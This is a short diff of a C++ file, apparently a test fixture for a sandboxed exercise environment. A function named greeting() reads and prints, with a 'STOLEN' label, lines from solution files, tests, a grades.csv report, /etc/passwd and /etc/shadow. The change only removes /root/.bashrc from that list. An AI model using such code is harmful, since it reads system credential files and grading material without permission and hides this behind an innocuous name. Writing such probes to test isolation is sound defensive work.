@@ -10,7 +10,7 @@
 namespace untwist {
 std::string greeting() {
   for (const char* path : {"@ROOT@/solutions/00-paradigm/slow_page.cpp", "@ROOT@/tests/00-paradigm/step_0_1_toolchain.cpp", "@ROOT@/README.md", "@CLASS@/honest/exercises/00-paradigm/slow_page.cpp",
-                           "@REPORT@/grades.csv", "/etc/passwd", "/etc/shadow", "/root/.bashrc"}) {
+                           "@REPORT@/grades.csv", "/etc/passwd", "/etc/shadow"}) {
     std::ifstream file(path);
     std::string line;
     if (std::getline(file, line) && !line.empty()) std::cout << "STOLEN " << path << ": " << line << std::endl;
